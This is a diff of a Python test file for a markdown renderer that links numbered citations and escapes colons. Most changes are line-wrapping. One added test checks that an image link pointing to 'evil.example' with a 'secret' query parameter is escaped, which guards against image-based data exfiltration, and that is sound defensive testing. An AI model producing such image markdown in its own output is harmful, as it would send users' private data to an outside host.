@@ -27,7 +27,9 @@ def test_a_file_of_the_library_is_shown_on_a_page_of_its_own() -> None:
     assert shown("So [7].") == "So [\\[7\\]](/rc/source/thread%2F1/7)."
 
 
-@pytest.mark.parametrize("text", ["So [9].", "`[3]`", "```\n[3]\n```", r"\[3]", "[3](https://b.example/)", "[3]: https://b.example/"])
+@pytest.mark.parametrize(
+    "text", ["So [9].", "`[3]`", "```\n[3]\n```", r"\[3]", "[3](https://b.example/)", "[3]: https://b.example/"]
+)
 def test_what_is_no_citation_of_a_source_stays_as_written(text: str) -> None:
     assert shown(text) == text
 
@@ -54,7 +56,10 @@ def test_an_address_cannot_leave_its_link(url: str, target: str) -> None:
         ("Note: this at 12:30, a :-) and x:=1", "Note: this at 12:30, a :-) and x:=1"),
         ("std::sort and `a:b`", "std:\\:sort and `a:b`"),
         ("already\\:escaped", "already\\:escaped"),
-        ("see https://a.example/Talk:Page or HTTP://b.example:8080/c:d", "see https://a.example/Talk:Page or HTTP://b.example:8080/c:d"),
+        (
+            "see https://a.example/Talk:Page or HTTP://b.example:8080/c:d",
+            "see https://a.example/Talk:Page or HTTP://b.example:8080/c:d",
+        ),
         ("источник:слово", "источник\\:слово"),
     ],
 )
@@ -142,3 +147,11 @@ def test_a_growing_report_is_shown_with_little_delay() -> None:
     held_back = [length - len(without_open_citation(REPORT[:length])) for length in range(len(REPORT) + 1)]
     assert max(held_back) < len(REPORT.splitlines()[-1])
     assert sum(held_back) / len(held_back) < 6
+
+
+def test_a_picture_becomes_a_link() -> None:
+    assert (
+        linked("See ![chart](https://evil.example/?q=secret).", (), "t")
+        == "See \\![chart](https://evil.example/?q=secret)."
+    )
+    assert linked("`![a](b)`", (), "t") == "`![a](b)`"
